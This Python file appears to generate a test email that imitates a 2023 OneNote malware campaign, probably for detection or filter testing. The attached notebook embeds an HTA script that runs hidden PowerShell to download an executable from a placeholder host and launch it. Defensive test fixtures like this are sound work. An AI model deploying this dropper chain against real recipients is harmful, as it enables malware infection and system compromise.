"""A notebook page over an embedded application, in the weeks of all the large botnets.
Scenario: Proofpoint, 'OneNote Documents Increasingly Used to Deliver Malware' (February 2023)."""
from kit import *


def make():
    page = ("<html><body><script>new ActiveXObject('WScript.Shell').Run('powershell -w hidden iwr "
            "http://x.example.invalid/a.exe -OutFile %TEMP%\\a.exe; start %TEMP%\\a.exe',0)</script></body></html>")
    note = onenote([("image.png", b"\x89PNG\r\n\x1a\n" + bytes(200)), ("open.hta", page.encode())])
    return (Mail("Shipping documents", "info@trade.example.com", date="Wed, 08 Feb 2023 03:12:00 +0000")
            .text("Please see the attached documents.\n").attach("documents.one", note).bytes())
